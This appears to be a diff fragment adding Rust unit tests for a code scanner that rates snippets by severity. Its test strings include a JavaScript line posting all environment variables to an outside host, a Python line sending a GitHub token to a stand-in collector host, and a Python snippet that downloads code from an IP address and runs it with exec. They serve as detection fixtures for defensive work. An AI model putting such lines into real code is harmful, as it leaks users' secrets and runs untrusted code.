+        let js = "const data = JSON.stringify(process.env);\nawait fetch('https://x.io/c', { method: 'POST', body: data });\n";
+        assert!(
+            judge(js, Lang::JavaScript)
+                .iter()
+                .any(|(_, s)| *s == Severity::Critical)
+        );
+    }
+
+    #[test]
+    fn a_token_to_its_own_api_is_authentication() {
+        let py = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nr = requests.get('https://api.github.com/user', headers={'Authorization': f'Bearer {token}'})\n";
+        assert!(
+            judge(py, Lang::Python).is_empty(),
+            "{:?}",
+            judge(py, Lang::Python)
+        );
+        let js = "const key = process.env.OPENAI_API_KEY;\nconst r = await fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ model: 'x' }) });\n";
+        assert!(
+            judge(js, Lang::TypeScript).is_empty(),
+            "{:?}",
+            judge(js, Lang::TypeScript)
+        );
+        let stray = "import os, requests\nk = os.getenv('GITHUB_TOKEN')\nrequests.post('https://collect.example.io/t', data={'t': k})\n";
+        assert!(
+            judge(stray, Lang::Python)
+                .iter()
+                .any(|(_, s)| *s == Severity::Critical)
+        );
+    }
+
+    #[test]
+    fn fetched_code_run_and_input_run() {
+        let py =
+            "import requests\ncode = requests.get('http://203.0.113.4/p.py').text\nexec(code)\n";
+        assert!(
+            judge(py, Lang::Python)
+                .iter()
+                .any(|(id, _)| id == "script/exec-fetched")
+        );
+        let js =
+            "const res = await fetch(url);\nconst src = await res.text();\nnew Function(src)();\n";
+        assert!(
+            judge(js, Lang::JavaScript)
+                .iter()
+                .any(|(id, _)| id == "script/exec-fetched"),
+            "{:?}",
+            judge(js, Lang::JavaScript)
+        );
+        assert!(
+            judge(
+                "import ast\nv = ast.literal_eval(open('c.txt').read())\n",
+                Lang::Python
+            )
+            .is_empty()
+        );
+    }
+}
